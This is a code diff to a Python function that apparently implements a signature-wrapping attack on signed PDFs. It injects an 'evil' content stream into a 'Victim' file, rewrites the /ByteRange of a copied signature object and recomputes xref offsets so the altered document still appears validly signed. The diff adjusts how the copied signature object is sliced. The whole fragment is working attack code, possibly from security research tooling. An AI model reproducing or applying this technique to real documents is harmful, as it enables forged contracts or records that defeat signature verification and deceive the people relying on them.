@@ -39,11 +39,12 @@ def _wrapped(v: Victim, *, is_copied: bool, evil: bytes) -> bytes:
         body = gap + b">>\nendobj\n"
         body += b"%".ljust(table_at - begin - len(body) - 1, b" ") + b"\n"
         new_at = begin + len(body) + slot
-        copy = data[place:begin].replace(old.group(), b"/ByteRange [0 %d %d %d] " % (begin, moved, len(rest)))
+        copy = data[place : data.index(b"endobj", finish)] + b"endobj\n"
+        copy = copy.replace(old.group(), b"/ByteRange [0 %d %d %d] " % (begin, moved, len(rest)))
         new = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (content, len(evil), evil)
         mine = {number: at + (moved - finish if at >= finish else 0) for number, at in entries.items()}
         mine |= {content: new_at, signature: new_at + len(new) if is_copied else place}
-        new += copy + gap + b">>\nendobj\n"
+        new += copy
         table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % one for one in sorted(mine.items()))
         body += (table + trailer).ljust(slot, b" ") + new
         return data[:begin] + body + rest, begin + len(body)
